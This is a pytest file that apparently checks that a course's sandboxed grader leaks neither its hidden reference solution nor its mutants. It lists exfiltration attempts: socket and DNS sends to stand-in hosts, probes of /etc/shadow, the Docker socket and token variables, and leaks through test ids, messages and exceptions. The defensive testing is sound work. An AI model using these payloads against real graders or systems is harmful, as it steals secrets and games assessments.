"""Attacks that carry hidden code out: the reference is the answer to the course's other half."""

import pytest

from .case import Attack
from .checks import check
from .conftest import Grading
from .known import INVALID, SEALED, SKIPPED, VAIN

# Gathers what a function knows of itself: names, constants, and those of what it calls.
LOOT = """
import pytest
from hypothesis import given, strategies as st
import toy.step
def loot(function):
    code = getattr(function, "__code__", None)
    consts = [one for one in getattr(code, "co_consts", ()) if isinstance(one, str)]
    return " / ".join(consts) or "nothing"
"""
IDS = frozenset({("flaky", "flaky-ids"), ("valid", None), ("vacuous", "vacuous")})

ATTACKS = (
    Attack(
        "X01",
        "what a failed check says on hidden code isn't shown",
        f"""{LOOT}
def test_it():
    assert False, loot(double)
""",
        **INVALID,
    ),
    Attack(
        "X01-print",
        "what is printed, warned of or logged on hidden code isn't shown",
        f"""{LOOT}
import logging, sys, warnings
def test_it():
    print(loot(double)); print(loot(double), file=sys.stderr)
    warnings.warn(loot(double)); logging.error(loot(double))
""",
        **VAIN,
    ),
    Attack(
        "X02",
        "there is no network to send it over",
        f"""{LOOT}
import socket
def test_it():
    with socket.create_connection(("192.0.2.1", 80), 1) as link:
        link.sendall(loot(double).encode())
""",
        **SEALED,
    ),
    Attack(
        "X02-names",
        "there is no name service to ask",
        f"""{LOOT}
import socket
def test_it():
    socket.gethostbyname(loot(double).replace(" ", "-")[:60] + ".example.org")
""",
        status="invalid",
        slug="invalid-sealed",
        others=frozenset({("invalid", "invalid-network"), ("invalid", "invalid")}),
    ),
    Attack(
        "X03",
        "parameters that quote hidden code are shown by number",
        f"""{LOOT}
@pytest.mark.parametrize("n", [loot(double)])
def test_it(n): double(1)
""",
        others=IDS,
    ),
    Attack(
        "X03-names",
        "names that quote hidden code are shown by number",
        f"""{LOOT}
globals()["test_" + loot(double)] = lambda: double(1)
""",
        others=IDS,
        verdicts={"s01": "error", "s02": "error"},
    ),
    Attack(
        "X03-reason",
        "the reason for which a test is skipped isn't shown",
        f"""{LOOT}
def test_it():
    pytest.skip(loot(double))
""",
        **SKIPPED,
    ),
    Attack(
        "X03-exception",
        "an exception that is called after hidden code isn't named",
        f"""{LOOT}
def test_it():
    raise type(loot(double), (Exception,), {{}})
""",
        **INVALID,
    ),
    Attack(
        "X03-import",
        "a file that can't be imported says no more",
        f"""{LOOT}
raise type(loot(double), (Exception,), {{}})(loot(double))
""",
        status="broken",
        slug="broken-import",
    ),
    Attack(
        "X03-module",
        "the name of a module that isn't there quotes no hidden code",
        f"""{LOOT}
import importlib
importlib.import_module(loot(double).split(" / ")[-1])
def test_it(): pass
""",
        status="broken",
        slug="broken-module",
    ),
    Attack(
        "X03-fixture",
        "the name of a fixture that isn't there quotes no hidden code",
        f"""{LOOT}
@pytest.fixture
def wanted(request):
    return request.getfixturevalue(loot(double))
def test_it(wanted): pass
""",
        status="broken",
        slug="broken-fixture",
    ),
    Attack(
        "X03-line",
        "a line that isn't in the file isn't shown",
        f"""{LOOT}
def test_it():
    number = 90_000 + len(loot(double))
    exec(compile("\\n" * number + "assert False", __file__, "exec"))
""",
        **INVALID,
    ),
    Attack(
        "X03-remark",
        "what is found in a source that is written while tests run isn't shown",
        f"""{LOOT}
def test_it():
    open("test_attack.py", "w").write("def check_it(): '" + loot(double) + "'")
    assert False
""",
        **INVALID,
        others=frozenset({("invalid", "invalid-limit")}),
    ),
    Attack(
        "X05",
        "there are no goldens to read",
        """
import os
def test_it():
    kinds = (".npz", ".npy", ".toml", ".patch")
    found = [one for _, _, some in os.walk("/") for one in some if one.endswith(kinds)]
    assert not [one for one in found if "grader" in one or "golden" in one or "mutant" in one]
    assert not os.path.exists("/opt/course")
""",
        **VAIN,
    ),
    Attack(
        "X06",
        "no socket of the engine, no secret, no file of the course is there",
        """
import os
def test_it():
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/root", "/etc/shadow", "/home"):
        assert not os.path.lexists(path) or not os.access(path, os.R_OK)
    assert not [name for name in os.environ if "TOKEN" in name or "KEY" in name]
""",
        **VAIN,
    ),
    Attack(
        "X07",
        "an input that quotes the reference isn't shown",
        f"""{LOOT}
@given(st.integers().map(lambda n: "".join(loot(double))))
def test_it(text): assert not text
""",
        **INVALID,
    ),
    Attack(
        "X07-mutant",
        "an input that quotes a mutant isn't shown",
        f"""{LOOT}
@given(st.integers().map(lambda n: "".join(loot(double))))
def test_it(text):
    with pytest.raises(ValueError):
        double(-1)
""",
        verdicts={"s01": "killed", "s02": "killed"},
    ),
    Attack(
        "X10",
        "a traceback shows no line of hidden code",
        """
def test_it():
    double("x")
""",
        **INVALID,
    ),
    Attack(
        "X11",
        "the wording of an exception of hidden code isn't shown",
        """
def test_it():
    double(-1)
""",
        **INVALID,
    ),
    Attack(
        "X13",
        "nothing of another submission is there",
        """
import os
def test_it():
    found = [os.path.join(top, one) for top, _, some in os.walk("/cells") for one in some]
    assert not [one for one in found if one.rpartition("/")[2] not in (
        ".grader.ini", "test_attack.py", "test_honest.py")], found
""",
        **VAIN,
        others=frozenset({("invalid", "invalid")}),
    ),
)


@pytest.mark.docker
@pytest.mark.parametrize("attack", ATTACKS, ids=str)
def test_no_report_quotes_hidden_code(attack: Attack, grading: Grading) -> None:
    """Neither of the reference nor of a mutant."""
    check(attack, grading(attack))
